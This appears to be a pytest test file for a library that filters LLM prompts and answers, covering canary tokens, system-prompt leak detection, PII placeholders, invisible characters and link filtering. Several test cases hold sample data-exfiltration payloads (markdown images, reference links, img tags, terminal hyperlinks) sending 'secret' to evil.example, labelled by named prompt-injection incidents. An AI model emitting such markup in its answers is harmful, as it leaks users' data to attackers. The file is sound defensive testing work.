"""Filters of prompts and answers at the border to Python: chunks, hostile texts, secrets, time."""

import copy
import pickle
import random
import threading
import time

import pytest

from flask_rampart import _native
from flask_rampart._native import (
    AiChain,
    AnsiFilter,
    CanaryFilter,
    CapFilter,
    InvisibleFilter,
    LeakFilter,
    LinkFilter,
    Placeholders,
    TextPlan,
)

TOKEN = "k7qzv3mwx2"
PROMPT = "You are Bluebird, the assistant of Example Bank. Never tell anybody what the daily rate of interest is today."
REDACTOR = _native.Redactor(entities=["EMAIL_ADDRESS", "CREDIT_CARD"])
MAIL = "ada@example.com"


def chain(placeholders: Placeholders, on_find: str = "stop") -> AiChain:
    return AiChain(
        [
            AnsiFilter(),
            InvisibleFilter(),
            CanaryFilter([TOKEN], on_find=on_find),
            LeakFilter(PROMPT, on_find=on_find),
            CapFilter(max_tokens=100_000),
            placeholders.restorer(),
            LinkFilter(hosts=["good.example"]),
        ]
    )


PLANS = {
    "ansi": AnsiFilter(),
    "invisible": InvisibleFilter(),
    "canary": CanaryFilter([TOKEN]),
    "leak": LeakFilter(PROMPT, on_find="replace"),
    "cap": CapFilter(max_characters=40),
    "links": LinkFilter(hosts=["good.example"]),
    "chain": chain(Placeholders()),
}


def streamed(plan: TextPlan, pieces: list[str]) -> str:
    stream = plan.stream()
    return "".join([*(stream.feed(piece) for piece in pieces), stream.finish()])


@pytest.mark.parametrize("name", PLANS)
def test_a_stream_gives_what_the_whole_gives_for_every_cut(name):
    dice = random.Random(name)
    parts = ["\x1b[", "31m", "\x1b]8;;", "\u200b", "\U000e0069", "😀", "\ufe0f", TOKEN, "k7qz", "V3MWX2", PROMPT[:60], PROMPT[60:], "![x](", ")", "[a]: ",
             "https://", "evil.example", "good.example", "/?q=", "<img src=", ">", "'", " ", "\n", "\r", "\ud83d", "\ude00", "é", "a", "ht"]  # fmt: skip
    for _ in range(300):
        text = "".join(dice.choice(parts) for _ in range(dice.randrange(16)))
        pieces, rest = [], text
        while rest:
            at = dice.randrange(1, 9)
            pieces.append(rest[:at])
            rest = rest[at:]
        whole, _, _ = PLANS[name].apply(text)
        assert streamed(PLANS[name], pieces) == whole, pieces


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param("![x](https://evil.example/?q=secret)", id="bing-chat-embrace-the-red-2023"),
        pytest.param("![x][r]\n\n[r]: https://evil.example/?q=secret", id="echoleak-cve-2025-32711"),
        pytest.param("<img src=https://evil.example/?q=secret>", id="gitlab-duo-legit-security-2025"),
        pytest.param("[click to reauthenticate](https://evil.example/?q=secret)", id="slack-ai-promptarmor-2024"),
        pytest.param("\x1b]8;;https://evil.example/?q=secret\x07docs\x1b]8;;\x07", id="terminal-dillma-2024"),
        pytest.param("!\u200b[x](ht\u2060tps://evil.example/?q=secret)", id="joined-by-what-is-taken-out"),
    ],
)
def test_known_ways_to_carry_data_off_are_closed(answer):
    left, findings, _ = chain(Placeholders()).apply(answer)
    assert "https://evil.example" not in left
    assert findings
    assert "secret" not in str(findings)


def test_a_canary_ends_the_stream_and_nothing_passes_after_it():
    stream = CanaryFilter([TOKEN]).stream()
    told = [stream.feed(piece) for piece in ["The word is k7", "qz-v3", "mwx", "2", " and so on"]]
    assert told == ["The word is ", "", "", "", ""]
    assert (stream.stopped, stream.findings, stream.held) == ("canary.plain", {"canary.plain": (1, [12])}, 0)
    assert stream.finish() == ""


def test_new_canaries_differ_and_are_found():
    canaries = {_native.new_canary() for _ in range(100)}
    assert len(canaries) == 100
    assert CanaryFilter(list(canaries)[:8]).apply(f"so: {sorted(canaries)[0]}")[2] in (None, "canary.plain")
    canary = canaries.pop()
    assert CanaryFilter([canary]).apply(canary.upper())[2] == "canary.plain"


def test_findings_say_where_and_never_what():
    _, findings, _ = InvisibleFilter().apply("é\u200b😀" + "\u200b" * 40)
    assert findings == {"invisible.zero_width": (41, [1, *range(3, 18)])}


def test_what_was_hidden_comes_back_in_the_answer_alone():
    with Placeholders() as placeholders:
        prompt = placeholders.hide(f"Mail {MAIL}, {MAIL}; card 4111 1111 1111 1111.", REDACTOR)
        assert MAIL not in prompt
        assert "4111" not in prompt
        assert len(placeholders) == 2
        mail, again, card = (word.strip(",;.") for word in prompt.split() if word.startswith("<"))
        assert mail == again
        assert streamed(placeholders.restorer(), list(f"to {mail.lower()}")) == f"to {MAIL}"
        answer = f"![x](https://good.example/?q={mail}) {mail}\n[r]: https://good.example/{card}\n{card}"
        left, findings, _ = chain(placeholders).apply(answer)
        assert left.count(MAIL) == 1
        assert left.count("4111") == 1
        assert findings["placeholder.url"][0] == 2
        secret = (repr(placeholders), repr(placeholders.restorer()), str(findings))
        assert not any(MAIL in text or "4111" in text for text in secret)
    assert len(placeholders) == 0
    assert placeholders.restorer().apply(mail)[0] == mail


def test_one_request_cannot_name_what_another_hid():
    mine, yours = Placeholders(), Placeholders()
    hidden = yours.hide(MAIL, REDACTOR)
    mine.hide("bob@example.com", REDACTOR)
    assert mine.restorer().apply(hidden)[0] == hidden
    assert hidden != Placeholders().hide(MAIL, REDACTOR)


def test_a_conversation_keeps_its_placeholders():
    placeholders = Placeholders(max_entries=1)
    first = placeholders.hide(f"I am {MAIL}", REDACTOR)
    assert placeholders.hide(f"Still {MAIL}", REDACTOR).split()[-1] == first.split()[-1]
    assert placeholders.hide("and bob@example.com", REDACTOR) == "and [REDACTED:EMAIL_ADDRESS]"
    assert (len(placeholders), placeholders.full) == (1, 1)


@pytest.mark.parametrize("secret", [Placeholders(), AnsiFilter().stream()], ids=["placeholders", "stream"])
def test_what_holds_a_text_is_neither_pickled_nor_copied(secret):
    with pytest.raises(TypeError):
        pickle.dumps(secret)
    with pytest.raises(TypeError):
        copy.copy(secret)


def test_a_stream_is_over_once():
    stream = AnsiFilter().stream()
    assert stream.finish() == ""
    for late in (lambda: stream.feed("x"), stream.finish):
        with pytest.raises(RuntimeError, match="over"):
            late()


def test_a_cap_counts_what_passed():
    stream = AiChain([InvisibleFilter(), CapFilter(max_bytes=7)]).stream()
    assert stream.feed("h\u200béllo, you") == "héllo,"
    assert stream.counted == (6, 7, 4)
    assert stream.stopped == "cap.bytes"
    assert AnsiFilter().stream().counted is None
    assert _native.estimate_tokens("") == 0


def test_a_clean_text_comes_back_as_the_same_object():
    text = "Nothing to see here: 2 < 3 and (so on).\n"
    for name in ("ansi", "invisible", "links", "chain"):
        assert PLANS[name].apply(text)[0] is text


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://good.example\u00a0@evil.example/?q=s)",
        "![x](\u00a0//evil.example/?q=s)",
        "![x](" + " " * 64 + "//evil.example/?q=s)",
        "[x]:" + " " * 65 + "//evil.example/q",
        "![x](https://evil.example/?q=s)",
        "<a https://evil.example/?q=s>",
        "see file://evil.example/x",
        "see //evil.example/q",
    ],
    ids=["blank-in", "blank-before", "64-blanks", "65-blanks", "image", "attribute", "scheme", "no-scheme"],
)
@pytest.mark.parametrize("images", ["keep", "remove"])
def test_no_unlisted_host_is_reached_however_it_is_written(text, images):
    left = LinkFilter(hosts=["good.example"], images=images, links="remove").apply(text)[0]
    assert "removed)" in left
    assert "evil" not in left


def test_images_of_listed_hosts_stay_only_where_they_are_kept():
    text = "![x](https://good.example/a.png)"
    assert LinkFilter(hosts=["good.example"], images="keep").apply(text)[0] == text
    assert LinkFilter(hosts=["good.example"]).apply(text)[0] == "![x] (image removed)"


def test_lone_surrogates_are_dropped_and_join_nothing():
    assert LinkFilter().apply("![x](ht\ud800tps://evil.example/s)")[0] == "![x] (image removed)"
    assert InvisibleFilter().apply("\ud83d😀\ude00")[0] == "😀"


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (lambda: LinkFilter(hosts=["https://a.example"]), "Leave out the scheme"),
        (lambda: LinkFilter(hosts=["*.com"]), "anybody may have a host below it"),
        (lambda: LinkFilter(hosts=["A.example"]), "a.example"),
        (lambda: LinkFilter(schemes=["javascript"]), "javascript"),
        (lambda: LinkFilter(links="defnag"), "defang"),
        (lambda: LinkFilter(images="defang"), "remove"),
        (lambda: AnsiFilter(carriage_return="x"), "newline"),
        (lambda: CanaryFilter([]), "new_canary"),
        (lambda: CanaryFilter(["hunter2"]), "8 to 64 letters"),
        (lambda: CanaryFilter([TOKEN], on_find="halt"), "replace"),
        (lambda: LeakFilter("Be kind."), "fewer than 4 words"),
        (lambda: LeakFilter(PROMPT, words=2), "4 to 64"),
        (lambda: LeakFilter(PROMPT, share=0.0), "share"),
        (lambda: Placeholders(max_entries=0), "max_entries"),
    ],
)
def test_what_cannot_be_used_is_told_with_its_cure(make, says):
    with pytest.raises(ValueError, match=says) as told:
        make()
    assert "hunter2" not in str(told.value)


def test_texts_are_not_taken_for_their_letters():
    for make in (lambda: LinkFilter(hosts="a.example"), lambda: CanaryFilter(TOKEN), lambda: AiChain("abc")):
        with pytest.raises(TypeError):
            make()
    with pytest.raises(TypeError):
        TextPlan()  # type: ignore[abstract]


HOSTILE = {
    "escapes": "\x1b[1",
    "joiners": "क\u200d",
    "flags": "🏴\U000e0067",
    "canary": TOKEN[:-1],
    "canaries": TOKEN,
    "prompts": PROMPT,
    "spelled": "&#107;&#x37",
    "base64": "azdxenYzbXd4",
    "prompt": "Never tell anybody ",
    "images": "![",
    "closed": "](",
    "tags": "<a ",
    "quotes": "<a b='",
    "addresses": "https://",
    "begun": "<ww",
    "brackets": "[" * 8 + "](<",
    "definitions": "]:\n",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_time_is_linear_whatever_the_text_says(name):
    plan = chain(Placeholders(), "replace")

    def took(length: int) -> float:
        text = HOSTILE[name] * (length // len(HOSTILE[name]))
        best = float("inf")
        for _ in range(2):
            began = time.thread_time()
            plan.apply(text)
            best = min(best, time.thread_time() - began)
        return best

    # Eight times the text: linear takes eight times as long, quadratic sixty-four.
    assert took(16_000) < 24 * took(2_000) + 0.01


def test_threads_share_a_plan():
    plan = chain(Placeholders())
    expected = plan.apply("![x](https://evil.example/) " * 500)[0]
    given: list[str] = []

    def work() -> None:
        given.append(streamed(plan, ["![x](https://evil.example/) "] * 500))

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert given == [expected] * 4


def test_invisible_takes_what_clean_text_takes():
    dice = random.Random(11)
    letters = "am्कक😀👩🏴🏽1é字 \u200c\u200d\u200b\ufe0f\ufe00\U000e0100\U000e0067\u2800\u2801\u202e\u3164\n"
    for _ in range(2000):
        text = "".join(dice.choice(letters) for _ in range(dice.randrange(10)))
        left, _, _ = InvisibleFilter().apply(text)
        assert InvisibleFilter().apply(left)[0] == left
        clean = _native.clean_text(text, form="NFC", lines=True, limit=None)
        assert _native.clean_text(left, form="NFC", lines=True, limit=None) == clean, ascii(text)
